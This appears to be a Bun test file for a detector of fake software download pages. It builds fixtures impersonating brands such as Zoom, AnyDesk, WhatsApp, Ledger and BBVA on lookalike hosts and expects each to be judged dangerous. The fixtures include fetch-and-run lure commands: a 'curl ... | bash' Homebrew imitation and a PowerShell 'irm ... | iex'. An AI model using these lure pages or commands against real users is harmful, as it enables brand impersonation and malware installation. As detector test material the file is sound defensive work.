import { describe } from 'bun:test'
import { judgedAs, link, makersPage, neverBenignByAMark, type Pages, page } from './kinds.ts'

const FRAUDS: Pages = {
  'an installer on its own host': [
    'https://www.quarnelz-site.com/',
    makersPage(
      'Download Zoom Workplace',
      'Zoom Workplace for Windows',
      'Zoom',
      'Zoom Communications, Inc',
      link('/dl/ZoomInstaller.exe', 'Download'),
    ),
  ],
  'a title with a slogan, and a third host': [
    'https://desk-remote.top/en',
    makersPage(
      'AnyDesk – The Fast Remote Desktop Application',
      'Download AnyDesk',
      'AnyDesk',
      'AnyDesk Software GmbH',
      link('https://cdn.brimfold.net/AnyDesk.msi', 'Download now'),
    ),
  ],
  'an archive, in Chinese': [
    'https://www.mirrelda.cn/',
    makersPage(
      'WhatsApp官方网站 - WhatsApp电脑版下载',
      'WhatsApp 电脑版下载',
      'WhatsApp',
      'WhatsApp LLC',
      link('https://brimfold.oss-cn-hongkong.aliyuncs.com/WhatsApp-Setup.zip', '立即下载'),
    ),
  ],
  'a Chinese version of a common word': [
    'https://tg-zh.quarnelz.com/',
    makersPage(
      'Telegram中文版官方下载',
      'Telegram 中文版下载',
      'Telegram',
      'Telegram FZ-LLC',
      link('/down/Telegram-zh.apk', '安卓下载'),
    ),
  ],
  'a command of a host that looks alike': [
    'https://brewsh.quarnelz.com/',
    makersPage(
      'Homebrew — The Missing Package Manager for macOS',
      'Install Homebrew',
      'Homebrew',
      'Homebrew contributors',
      '<pre>/bin/bash -c "$(curl -fsSL https://brew-install.quarnelz.com/install.sh)"</pre>',
    ),
  ],
  'a button whose address is in a script': [
    'https://notepad.quarnelz.com/',
    makersPage(
      'Notepad++ Downloads',
      'Download Notepad++',
      'Notepad++',
      'Notepad++',
      '<button onclick="location.href=\'https://files.brimfold.net/npp.8.9.Installer.x64.exe\'">Download 64-bit</button>',
    ),
  ],
  'a parcel service’s app': [
    'https://dhl-app.quarnelz.com/',
    makersPage(
      'DHL Express Mobile App',
      'Download the DHL app',
      'DHL',
      'DHL International GmbH',
      link('/app/dhl-tracking.apk', 'Install app'),
    ),
  ],
  'a bank’s app, in Spanish': [
    'https://www.quarnelz-site.com/app',
    makersPage(
      'BBVA – Descargar app oficial',
      'Descarga la app BBVA',
      'BBVA',
      'BBVA',
      link('bbva.apk', 'Descargar'),
    ),
  ],
  'a browser, in Russian': [
    'https://brauzer.quarnelz.ru/',
    makersPage(
      'Скачать Google Chrome',
      'Скачать Google Chrome для Windows',
      'Google Chrome',
      'Google LLC',
      link('/files/ChromeSetup.exe', 'Скачать'),
    ),
  ],
  'a wallet, in Spanish': [
    'https://live.quarnelz.app/',
    makersPage(
      'Ledger Live – Descarga oficial',
      'Descargar Ledger Live',
      'Ledger',
      'Ledger SAS',
      link('https://get.brimfold.net/LedgerLive.dmg', 'Descargar para macOS'),
    ),
  ],
  'a reader, in French': [
    'https://lecteur.quarnelz.fr/',
    makersPage(
      'Télécharger Adobe Acrobat Reader',
      'Adobe Acrobat Reader',
      'Adobe',
      'Adobe',
      link('/Reader_fr.exe', 'Télécharger'),
    ),
  ],
  'a chat, in Korean': [
    'https://pc.quarnelz.kr/',
    makersPage(
      '카카오톡 PC버전 다운로드',
      '카카오톡 다운로드',
      '카카오톡',
      'Kakao Corp',
      link('/KakaoTalk_Setup.zip', '다운로드'),
    ),
  ],
  'a chat, in Japanese': [
    'https://pc.quarnelz.jp/',
    makersPage(
      'WhatsApp ダウンロード',
      'WhatsApp デスクトップ版 ダウンロード',
      'WhatsApp',
      'WhatsApp LLC',
      link('/WhatsAppSetup.msix', 'ダウンロード'),
    ),
  ],
  'a recorder without a copyright line': [
    'https://obs.quarnelz.com/',
    page(
      'OBS Studio',
      `<img src=l.png alt="OBS Studio"><h1>OBS Studio</h1>${link('https://brimfold.net/OBS-Studio-31.exe', 'Windows')}`,
    ),
  ],
  'a chat of a model, in German': [
    'https://ki.quarnelz.de/',
    makersPage(
      'ChatGPT für Windows herunterladen',
      'ChatGPT Desktop App',
      'ChatGPT',
      'OpenAI',
      link('/ChatGPT_Setup.exe', 'Herunterladen'),
    ),
  ],
  'a tunnel, in Turkish': [
    'https://www.quarnelz-site.com/tr',
    makersPage(
      'NordVPN indir',
      'NordVPN uygulamasını indir',
      'NordVPN',
      'NordVPN',
      link('/nordvpn.apk', 'İndir'),
    ),
  ],
  'a client of a company’s network, in Polish': [
    'https://www.quarnelz-site.com/pl',
    makersPage(
      'Pobierz TeamViewer',
      'Pobierz TeamViewer',
      'TeamViewer',
      'TeamViewer Germany GmbH',
      link('/TeamViewer_Setup.exe', 'Pobierz'),
    ),
  ],
  'a package that is installed by the system, in Portuguese': [
    'https://www.quarnelz-site.com/pt',
    makersPage(
      'Baixar Microsoft Teams',
      'Baixar o Microsoft Teams',
      'Microsoft',
      'Microsoft',
      link('/MSTeams.appinstaller', 'Baixar agora'),
    ),
  ],
  'a command for Windows': [
    'https://www.quarnelz-site.com/code',
    makersPage(
      'DeepSeek',
      'Install DeepSeek',
      'DeepSeek',
      'DeepSeek',
      '<code>irm https://ds-cli.quarnelz.com/install.ps1 | iex</code>',
    ),
  ],
  'links of the maker beside the file': [
    'https://www.quarnelz-site.com/zoom',
    makersPage(
      'Zoom Download Center',
      'Download Center for Zoom',
      'Zoom',
      'Zoom Communications, Inc',
      link('/Zoom.exe', 'Download') +
        link('https://zoom.us/privacy', 'Privacy') +
        link('https://zoom.us/terms', 'Terms'),
    ),
  ],
}

const MORE: Pages = {
  'a title of a download and nothing else': [
    'https://www.quarnelz-site.com/',
    page(
      'Official Download Page',
      '<img src=l.png alt="AnyDesk logo"><h1>AnyDesk for Windows</h1><a href="/AnyDesk.exe">Free Download</a><p>Copyright 2026 AnyDesk Software GmbH</p>',
    ),
  ],
  'a logo that is taken from the maker': [
    'https://www.quarnelz-site.com/',
    page(
      'Slack | Download',
      '<img src="https://a.slack-edge.com/logo.png"><h1>Slack for Windows</h1><a href="/SlackSetup.exe">Download</a><p>© Slack Technologies, LLC</p>',
    ),
  ],
  'a page for phones, in Vietnamese': [
    'https://www.quarnelz-site.com/',
    page(
      'Tải Techcombank Mobile miễn phí',
      '<img alt=Techcombank src=t.png><h1>Techcombank Mobile</h1><a href="/tcb.apk">Tải về</a><p>© 2026 Techcombank</p>',
    ),
  ],
  'a page in Indonesian': [
    'https://www.quarnelz-site.com/',
    page(
      'Unduh BRI mobile',
      '<img alt=BRI src=t.png><h1>Aplikasi BRI mobile</h1><a href="https://brimfold.net/brimo.apk">Unduh</a><p>© 2026 BRI</p>',
    ),
  ],
  'a page in Arabic': [
    'https://www.quarnelz-site.com/',
    page(
      'تحميل واتساب للكمبيوتر',
      '<img alt=WhatsApp src=t.png><h1>تحميل واتساب</h1><a href="/wa.exe">تحميل</a><p>© 2026 WhatsApp</p>',
    ),
  ],
  'a page in Italian': [
    'https://www.quarnelz-site.com/',
    page(
      'Scarica VLC gratis',
      '<img alt="VLC media player" src=t.png><h1>VLC media player per Windows</h1><a href="/vlc.msi">Scarica</a><p>© VideoLAN</p>',
    ),
  ],
  'a page in Hindi': [
    'https://www.quarnelz-site.com/',
    page(
      'PhonePe ऐप डाउनलोड',
      '<img alt=PhonePe src=t.png><h1>PhonePe डाउनलोड करें</h1><a href="/phonepe.apk">डाउनलोड</a><p>© PhonePe</p>',
    ),
  ],
  'a page in Ukrainian': [
    'https://www.quarnelz-site.com/',
    page(
      'Завантажити Viber',
      '<img alt=Viber src=t.png><h1>Viber для Windows</h1><a href="/ViberSetup.exe">Завантажити</a><p>© Viber Media</p>',
    ),
  ],
  'a file that a script makes': [
    'https://www.quarnelz-site.com/',
    page(
      'Download Zoom',
      '<img alt=Zoom src=z.png><h1>Zoom Workplace</h1><button id=d>Download</button><p>© 2026 Zoom Communications</p><script>d.onclick=()=>{const a=document.createElement("a");a.href="https://cdn.brimfold.net/z/ZoomInstaller.msi";a.click()}</script>',
    ),
  ],
}

describe('the name of a program of somebody else, and a file that is not its maker’s [T16]', () => {
  judgedAs('dangerous', FRAUDS, ['content.false_installer'])
  judgedAs('dangerous', MORE)
  neverBenignByAMark(FRAUDS)
})
